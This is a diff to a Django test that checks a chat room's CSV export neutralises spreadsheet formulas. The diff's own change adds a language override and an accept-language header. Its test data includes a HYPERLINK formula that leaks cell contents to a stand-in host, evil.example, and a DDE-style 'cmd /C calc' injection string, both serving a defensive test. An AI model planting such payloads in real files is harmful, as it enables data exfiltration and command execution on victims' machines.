@@ -1,5 +1,7 @@
 import datetime as dt
 
+from django.utils.translation import override
+
 from history.models import Message
 from tests.factories import RoomFactory, join, post
 
@@ -8,7 +10,8 @@ CHANGELIST = "/admin/rooms/room/"
 
 def test_export_csv_neutralises_formulas_in_names_and_bodies(organiser, organiser_client):
     room = RoomFactory(owner=organiser, name="Export")
-    mallory = join(room, display_name="=HYPERLINK(1)").user
+    with override("en"):  # the "joined" notice is in the language active when posted
+        mallory = join(room, display_name="=HYPERLINK(1)").user
     post(room, mallory, '=HYPERLINK("http://evil.example/?"&A1,"click")')
     post(room, mallory, "+1+cmd|' /C calc'!A0")
     post(room, mallory, "-2")
@@ -18,7 +21,9 @@ def test_export_csv_neutralises_formulas_in_names_and_bodies(organiser, organise
     Message.objects.filter(room=room).update(created_at=stamp)
 
     response = organiser_client.post(
-        CHANGELIST, {"action": "export_history", "_selected_action": [str(room.pk)]}
+        CHANGELIST,
+        {"action": "export_history", "_selected_action": [str(room.pk)]},
+        headers={"accept-language": "en"},
     )
     assert response.status_code == 200
     code, at, who = room.code, "2026-01-02 11:04:05", "'=HYPERLINK(1)"
